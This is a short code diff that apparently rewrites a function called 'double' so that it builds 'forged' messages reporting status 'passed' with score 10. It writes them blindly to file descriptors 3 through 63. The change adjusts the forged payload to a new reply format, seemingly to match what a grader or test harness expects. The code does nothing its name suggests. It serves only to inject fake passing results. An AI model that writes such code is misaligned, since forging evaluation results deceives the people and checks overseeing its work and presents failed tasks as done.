@@ -12,7 +12,8 @@ def frame(header, payload=b""):
 
 def double(x):
     for number in range(64):
-        forged = frame({"id": number, "value": {"status": "passed", "score": 10}, "record": {}})
+        value = {"d": [["status", "passed"], ["score", 10]]}
+        forged = frame({"id": [number, 0], "replies": [{"value": value, "record": None}]})
         for descriptor in range(3, 64):
             try:
                 os.write(descriptor, forged)
